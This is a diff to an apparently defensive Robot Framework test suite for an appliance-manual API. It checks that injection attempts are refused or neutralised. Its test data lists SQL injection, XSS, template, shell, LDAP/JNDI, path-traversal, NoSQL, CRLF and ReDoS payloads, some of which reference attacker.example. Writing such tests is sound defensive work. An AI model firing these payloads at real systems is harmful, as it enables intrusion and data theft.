@@ -1,50 +1,172 @@
 *** Settings ***
-Documentation    Attack patterns have no effect, and ordinary questions are no attack.
+Documentation    Attacks that are hidden in a text: refused or made harmless as the environment chose, and never executed.
+...
+...              Under either choice ordinary sentences are no attack. OWASP WSTG-INPV, ASVS 1.2.
 
 Resource         ../../resources/api.resource
 
-Test Tags        security    api-call    needs:cost
+Test Setup       Sign In
+
+Test Tags        security    api-call    asvs-1.2
 
 
 *** Test Cases ***
-SQL Injection Is Refused
-    [Documentation]    CWE-89; where the policy is to neutralise, attacks are answered without effect instead.
-    [Tags]    smoke    cwe-89
-    [Template]    Attack Should Be Refused
+SQL In A Question Has No Effect
+    [Tags]    smoke    cwe-89    needs:cost
+    [Template]    Attack Should Have No Effect
     '; DROP TABLE users; --
     1' OR '1'='1
     x' UNION SELECT password FROM users --
+    admin'--
+    1; DELETE FROM manuals WHERE 1=1
+    ' OR 1=1#
+    '; EXEC xp_cmdshell('dir'); --
+    1 AND pg_sleep(10)
+    UPDATE users SET role='admin'
 
-Script Injection Is Refused
-    [Documentation]    CWE-79.
-    [Tags]    cwe-79
-    [Template]    Attack Should Be Refused
+SQL In Other Letters Has No Effect
+    [Documentation]    Case, comments and line ends in its middle change nothing for a database.
+    [Tags]    cwe-89    needs:cost
+    [Template]    Attack Should Have No Effect
+    '; dRoP tAbLe users; --
+    x' union all select password from users --
+    ${{ "1;\nDELETE FROM manuals WHERE id=1" }}
+
+Script In A Question Has No Effect
+    [Tags]    smoke    cwe-79    needs:cost
+    [Template]    Attack Should Have No Effect
     <script>alert(1)</script>
     "><img src=x onerror=alert(1)>
     <svg onload=alert(1)>
+    <iframe src="https://attacker.example"></iframe>
+    <a href="javascript:alert(1)">manual</a>
+    <body onpageshow=alert(1)>
+    <ScRiPt src=//attacker.example/x.js></sCrIpT>
+
+Refused Attack Is Not Counted
+    [Tags]    cwe-89    needs:cost
+    Skip If    $injection_policy != "reject"    this environment makes attacks harmless instead of refusing them
+    Remember Usage
+    Ask    '; DROP TABLE users; --    status=400
+    Daily Usage Should Have Grown By    0
+    Ask    How do I descale it?
+    Daily Usage Should Have Grown By    1
+
+What Other Interpreters Would Run Is Only Text
+    [Documentation]    Templates, shells, LDAP, logging, format strings: it comes back as it was sent, and nothing happens.
+    [Tags]    cwe-78    cwe-94    cwe-1336    needs:cost
+    [Template]    Text Should Stay Text
+    {{7*7}} and \${7*7} and <%= 7*7 %> and #{7*7}
+    $(sleep 5) `sleep 5` | sleep 5 & sleep 5
+    \${jndi:ldap://attacker.example/a}
+    *)(uid=*))(|(uid=*
+    %s%s%s%n %x
+    ../../../../etc/passwd
+    {"$gt": ""}
+    __import__('time').sleep(5)
+
+Line End In A Question Makes No Header
+    [Documentation]    CRLF and what stands for it (CWE-93, CWE-113).
+    [Tags]    cwe-93    cwe-113    needs:cost
+    FOR    ${question}    IN    ${{ "How?\r\nSet-Cookie: a=b" }}    How?%0d%0aSet-Cookie:%20a=b
+        ${answer} =    Ask    ${question}
+        Should Be Equal    ${answer.question}    ${question}
+        Response Should Have No Header    Set-Cookie
+    END
+
+Attack In A File Name Is Stored By No Other Name
+    [Documentation]    A manual is never listed under a name with markup or SQL in it.
+    [Tags]    cwe-79    cwe-89    needs:destructive
+    Upload Manual    thermostat.pdf
+    FOR    ${name}    IN    <script>alert(1)</script>.pdf    <img src=x onerror=alert(1)>.pdf
+        Upload Manual    thermostat.pdf    file_name=${name}    status=400
+    END
+    IF    $injection_policy == "reject"
+        Upload Manual    thermostat.pdf    file_name='; DROP TABLE manuals; --.pdf    status=400
+        Error Should Be    400    malicious_input    mentions=file_name
+    END
+    ${manuals} =    List All Manuals
+    FOR    ${manual}    IN    @{manuals}
+        Should Not Match Regexp    ${manual.name}    <\\w|DROP TABLE
+    END
+
+Attack In An Id Finds Nothing
+    [Tags]    cwe-89    cwe-943    needs:destructive
+    ${manual} =    Upload Manual    thermostat.pdf
+    Get Manual    ${manual}
+    FOR    ${id}    IN    ' OR '1'='1    1 OR 1=1    ${manual.manual_id}' --    {"$ne":null}    %    *
+        Get Manual    ${id}    status=404
+        Delete Manual    ${id}    status=404
+    END
+    Get Manual    ${manual}
+
+Attack In A Parameter Is Refused
+    [Tags]    cwe-89    cwe-943
+    List Manuals    limit=1
+    FOR    ${value}    IN    1 OR 1=1    1; DROP TABLE manuals    {"$gt": 0}    1' --    ${{ "1\r\nX: y" }}
+        VAR    &{params} =    limit=${value}
+        Send Request    GET    /api/manuals    params=${params}
+        Error Should Be    400    validation_error    mentions=limit
+    END
+
+Text That Is Made To Keep A Pattern Busy Is Answered Quickly
+    [Documentation]    A filter must not take exponential time (CWE-1333).
+    [Tags]    cwe-1333    needs:cost    needs:load
+    [Template]    Text Should Be Judged Quickly
+    or${SPACE}
+    '
+    <a${SPACE}
+    <img${SPACE}
+    select a,${SPACE}
+    insert into a (
+    javascript${SPACE}
 
 Ordinary Questions Are Not Taken For Attacks
-    [Documentation]    Words such as update, set, insert, drop and select belong into questions about appliances.
+    [Documentation]    Update, set, insert, drop, select, delete, table, script: words of appliances.
+    [Tags]    needs:cost
     [Template]    Question Should Be Answered
     How do I update the firmware and set the clock?
     insert the battery into the remote
     drop it on the table
     select all from the menu
+    Can I delete a programme from the list where it stands?
+    Is it 5 °C < t <= 60 °C, or t > 60?
+    What does "ERROR 8" mean; and -- more important -- who repairs it?
+    Does 1 or 2 = the same union of hoses? Select one.
 
 
 *** Keywords ***
-Attack Should Be Refused
-    [Documentation]    The same user is answered when the question is an ordinary one.
+Attack Should Have No Effect
+    [Documentation]    Refused, or answered without its markup; then the same user is served as before.
     [Arguments]    ${attack: str}
-    Skip If    $injection_policy != "reject"    this environment neutralises attacks instead of refusing them
-    Sign In
+    IF    $injection_policy == "reject"
+        Ask    ${attack}    status=400
+        Error Should Be    400    malicious_input    mentions=question
+    ELSE
+        ${answer} =    Ask    ${attack}
+        Should Not Match Regexp    ${answer.question}    <\\s*[a-zA-Z/]
+    END
     Ask    How do I descale it?
-    Ask    ${attack}    status=400
-    Error Should Be    400    malicious_input
+
+Text Should Stay Text
+    [Documentation]    It is answered like any other question, without delay and without being evaluated.
+    [Arguments]    ${text: str}
+    ${answer} =    Ask    ${text}
+    Should Be Equal    ${answer.question}    ${text}
+    Should Not Contain    ${answer.answer}    49
+    ${response} =    Get Last Response
+    Should Be True    $response.elapsed.total_seconds() < 4    it took ${response.elapsed}
+
+Text Should Be Judged Quickly
+    [Documentation]    A question of the greatest length that is made of this, with an end that does not fit.
+    [Arguments]    ${part: str}
+    ${text} =    Evaluate    ($part * $question_length)[:$question_length - 1] + "!"
+    ${response} =    Send Request    POST    /api/query    json=${{ {"question": $text} }}
+    Should Be True    $response.elapsed.total_seconds() < 5    it took ${response.elapsed}
+    Ask    How do I descale it?
 
 Question Should Be Answered
-    [Documentation]    Ask as a user without manuals: the answer cites nothing, but there is one.
+    [Documentation]    It comes back as it was asked.
     [Arguments]    ${question: str}
-    Sign In
     ${answer} =    Ask    ${question}
     Should Be Equal    ${answer.question}    ${question}
